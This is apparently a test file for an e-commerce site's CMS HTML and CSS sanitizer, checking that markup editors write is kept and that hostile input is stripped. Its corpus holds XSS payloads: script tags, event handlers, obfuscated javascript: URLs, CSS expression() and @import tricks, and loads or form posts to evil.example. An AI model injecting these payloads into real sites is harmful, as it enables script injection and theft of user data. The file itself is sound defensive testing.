import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { commerceConfig } from '@/commerce/config';
import { parseSrcset, sanitizeCmsHtml, sanitizeCss } from '@/cms/sanitize';

/** ARCHITECTURE §5: CMS HTML (paragraphs, banners, header slot 8) goes through one sanitizer. */

const IMAGE_HOST = 'https://images.example.com';
/** Where backend media (`/medias/...`) are served: the commerce backend. */
const backend = () => commerceConfig().apiUrl.replace(/\/+$/, '');

beforeEach(() => {
  vi.stubEnv('IMAGE_BASE_URL', IMAGE_HOST);
});

afterEach(() => {
  vi.unstubAllEnvs();
});

describe('sanitizeCmsHtml: hostile corpus', () => {
  const corpus: [string, string, RegExp][] = [
    ['script element', '<p>Hi</p><script>alert(1)</script>', /script|alert/i],
    ['script with odd casing', '<p>Hi</p><ScRiPt src="//evil.example/x.js"></ScRiPt>', /script|evil/i],
    ['onerror handler', '<img src="/x.png" onerror="alert(1)">', /onerror|alert/i],
    ['onclick on a link', '<a href="/c/men" onclick="steal()">Men</a>', /onclick|steal/i],
    ['onmouseover on a div', '<div onmouseover="alert(1)">x</div>', /onmouseover/i],
    ['javascript: link', '<a href="javascript:alert(1)">x</a>', /javascript/i],
    ['javascript: with entities', '<a href="jav&#x61;script&colon;alert(1)">x</a>', /javascript|alert/i],
    ['javascript: with whitespace', '<a href=" javascript:alert(1)">x</a>', /javascript/i],
    ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', /vbscript/i],
    ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /data:/i],
    ['data: image source', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', /data:|onload/i],
    ['iframe', '<iframe src="https://evil.example"></iframe><p>after</p>', /iframe|evil/i],
    ['object and embed', '<object data="x.swf"></object><embed src="x.swf">', /object|embed|swf/i],
    ['svg with script', '<svg><script>alert(1)</script></svg>', /svg|script|alert/i],
    ['form posting away', '<form action="https://evil.example"><input name="card"></form>', /form|input|evil/i],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">', /meta|evil/i],
    ['base href', '<base href="https://evil.example/">', /base|evil/i],
    ['style element outside slot 8', '<style>body{display:none}</style><p>x</p>', /style|display/i],
    ['inline style expression', '<p style="width: expression(alert(1))">x</p>', /expression|alert/i],
    ['inline style url', '<p style="background: url(javascript:alert(1))">x</p>', /url|javascript/i],
    ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', /srcdoc|script/i],
    ['protocol-relative source', '<img src="//evil.example/pixel.gif">', /evil/i],
    ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', /onerror|alert/i],
  ];

  it.each(corpus)('removes %s', (_name, input, forbidden) => {
    expect(sanitizeCmsHtml(input)).not.toMatch(forbidden);
  });

  it('keeps the editorial markup editors write, its image from the image server', () => {
    const text =
      '<h2 class="promo">Free shipping</h2><p>Orders over <strong>$75</strong> ship free. <a href="/shipping-information" class="more">Details</a></p>' +
      '<ul><li>One</li><li>Two</li></ul>';
    const html = `${text}<img src="/is/image/brand/logo?wid=10" alt="Logo" width="10" height="10" />`;
    expect(sanitizeCmsHtml(html)).toBe(`${text}<img src="${IMAGE_HOST}/is/image/brand/logo?wid=10" alt="Logo" width="10" height="10" />`);
  });

  it('adds rel="noopener noreferrer" to links that open a new tab', () => {
    expect(sanitizeCmsHtml('<a href="https://careers.example.com" target="_blank">Careers</a>')).toBe(
      '<a href="https://careers.example.com" target="_blank" rel="noopener noreferrer">Careers</a>',
    );
    expect(sanitizeCmsHtml('<a href="https://x.example" target="_blank" rel="nofollow">x</a>')).toContain(
      'rel="nofollow noopener noreferrer"',
    );
    expect(sanitizeCmsHtml('<a href="/faq">FAQ</a>')).toBe('<a href="/faq">FAQ</a>');
  });

  it('rewrites link targets through the given rewriter, but never unsafe ones', () => {
    const rewriteHref = (href: string) => (href.startsWith('/') ? `/uk/en-gb${href}` : href);
    expect(sanitizeCmsHtml('<a href="/c/men">Men</a>', { rewriteHref })).toBe('<a href="/uk/en-gb/c/men">Men</a>');
    expect(sanitizeCmsHtml('<a href="javascript:alert(1)">x</a>', { rewriteHref: () => '/safe' })).toBe('<a>x</a>');
  });

  it('keeps data- and aria- attributes and safe inline styles', () => {
    expect(sanitizeCmsHtml('<a href="#RepairKit" data-cms-dialog="RepairKit" aria-haspopup="dialog">here</a>')).toBe(
      '<a href="#RepairKit" data-cms-dialog="RepairKit" aria-haspopup="dialog">here</a>',
    );
    expect(sanitizeCmsHtml('<p style="text-align:center;color:#2b2520">x</p>')).toBe('<p style="text-align:center;color:#2b2520">x</p>');
  });

  it('returns an empty string for nothing', () => {
    expect(sanitizeCmsHtml(undefined)).toBe('');
    expect(sanitizeCmsHtml('')).toBe('');
  });
});

describe('CMS media in HTML: from the backend or image server, never the storefront', () => {
  it('makes backend media and image-server sources absolute', () => {
    expect(sanitizeCmsHtml('<img src="/medias/banner.jpg?context=bWFzdGVy" alt="">')).toBe(
      `<img src="${backend()}/medias/banner.jpg?context=bWFzdGVy" alt="" />`,
    );
    expect(sanitizeCmsHtml('<img src="/is/image/brand/hero?wid=600&amp;hei=400">')).toBe(
      `<img src="${IMAGE_HOST}/is/image/brand/hero?wid=600&amp;hei=400" />`,
    );
  });

  it('keeps absolute https sources and drops sources with other schemes', () => {
    expect(sanitizeCmsHtml('<img src="https://cdn.example.com/x.png" alt="x">')).toBe('<img src="https://cdn.example.com/x.png" alt="x" />');
    expect(sanitizeCmsHtml('<img src="javascript:alert(1)" alt="x">')).toBe('<img alt="x" />');
    expect(sanitizeCmsHtml('<img src="data:image/png;base64,AAAA" alt="x">')).toBe('<img alt="x" />');
    expect(sanitizeCmsHtml('<img src="//evil.example/x.png" alt="x">')).toBe('<img alt="x" />');
  });

  it('resolves each srcset candidate of an image and of a picture source, dropping refused ones', () => {
    const out = sanitizeCmsHtml(
      '<picture><source media="(min-width: 768px)" srcset="/medias/wide.jpg?context=a 1400w, /is/image/brand/wide?wid=700 700w">' +
        '<img src="/medias/small.jpg" srcset="/medias/small.jpg 1x, javascript:alert(1) 2x, https://cdn.example.com/s@3.jpg 3x" alt="Sale"></picture>',
    );
    expect(out).toBe(
      `<picture><source media="(min-width: 768px)" srcset="${backend()}/medias/wide.jpg?context=a 1400w, ${IMAGE_HOST}/is/image/brand/wide?wid=700 700w"></source>` +
        `<img src="${backend()}/medias/small.jpg" srcset="${backend()}/medias/small.jpg 1x, https://cdn.example.com/s@3.jpg 3x" alt="Sale" /></picture>`,
    );
    expect(sanitizeCmsHtml('<img srcset="data:image/png;base64,AAAA 1x" alt="x">')).toBe('<img alt="x" />');
  });

  it('reads srcset candidates as HTML does: commas inside URLs, none between descriptors', () => {
    expect(parseSrcset('/a.jpg?x=1,2 1x,/b.jpg 2x')).toEqual([
      { url: '/a.jpg?x=1,2', descriptors: '1x' },
      { url: '/b.jpg', descriptors: '2x' },
    ]);
    expect(parseSrcset(' /a.jpg, /b.jpg  400w ')).toEqual([
      { url: '/a.jpg', descriptors: '' },
      { url: '/b.jpg', descriptors: '400w' },
    ]);
  });

  it('resolves url(...) in the styling slot\'s CSS and drops declarations with refused ones', () => {
    const out = sanitizeCmsHtml(
      "<style>.hero{background:url('/medias/hero.jpg?context=a') no-repeat}.logo{background-image:url(/is/image/brand/logo)}" +
        '.cdn{background:url(https://cdn.example.com/x.png)}.evil{color:red;background:url(//evil.example/x.png)}</style>',
      { allowStyleTags: true },
    );
    expect(out).toBe(
      `<style>.hero{background:url("${backend()}/medias/hero.jpg?context=a") no-repeat}.logo{background-image:url("${IMAGE_HOST}/is/image/brand/logo")}` +
        '.cdn{background:url("https://cdn.example.com/x.png")}.evil{color:red;}</style>',
    );
  });
});

describe('site-wide styling HTML (header slot 8, spec 1 §2.2)', () => {
  it('keeps style tags only when asked to', () => {
    const styling = '<style>.promo-strip{background:#2b2520;color:#f4efe6}</style>';
    expect(sanitizeCmsHtml(styling, { allowStyleTags: true })).toBe(styling);
    expect(sanitizeCmsHtml(styling)).toBe('');
  });

  it('still removes scripts and handlers next to the styles', () => {
    const out = sanitizeCmsHtml('<style>.a{color:red}</style><script>alert(1)</script><p onclick="x()">t</p>', { allowStyleTags: true });
    expect(out).toBe('<style>.a{color:red}</style><p>t</p>');
  });

  it.each([
    ['expression()', '.a{width:expression(alert(1))}'],
    ['escaped expression()', '.a{width:expr\\65ssion(alert(1))}'],
    ['expression() split by a comment', '.a{width:expr/**/ession(alert(1))}'],
    ['url(javascript:)', '.a{background:url(javascript:alert(1))}'],
    ['url("javascript:") with quotes and spaces', '.a{background:url( "javascript:alert(1)" )}'],
    ['escaped javascript: scheme', '.a{background:url(java\\73 cript:alert(1))}'],
    ['@import', '@import url(https://evil.example/x.css);'],
    ['escaped @import', '@\\69mport "https://evil.example/x.css";'],
    ['behavior', '.a{behavior:url(x.htc)}'],
    ['-moz-binding', '.a{-moz-binding:url(https://evil.example/x.xml#x)}'],
    ['data: url', '.a{background:url(data:image/svg+xml;base64,AAAA)}'],
  ])('strips %s from style tags', (_name, css) => {
    const out = sanitizeCmsHtml(`<style>${css}.b{color:red}</style>`, { allowStyleTags: true });
    expect(out).not.toMatch(/expression|expr|javascript|java|import|behavior|binding|data:|evil/i);
    expect(out).toContain('.b{color:red}');
  });

  it('keeps http(s) background images and serves relative ones from the backend', () => {
    expect(sanitizeCss('.a{background:url(https://cdn.example/x.png)} .b{background:url(/x.png)}')).toBe(
      `.a{background:url("https://cdn.example/x.png")} .b{background:url("${backend()}/x.png")}`,
    );
  });

  it('drops a url(...) it cannot read rather than leave it relative', () => {
    expect(sanitizeCss('.a{background:u\\72l(/medias/x.png)}.b{color:red}')).toBe('.a{}.b{color:red}');
    expect(sanitizeCss('.a{background:url("/medias/a\\"b.png")}', (url) => `https://media.example${url}`)).toBe(
      '.a{background:url("https://media.example/medias/a\\22 b.png")}',
    );
  });

  it('never lets the CSS close its element', () => {
    const out = sanitizeCmsHtml('<style>.a{content:"</style><script>alert(1)</script>"}</style>', { allowStyleTags: true });
    expect(out).not.toMatch(/<script/i);
  });
});
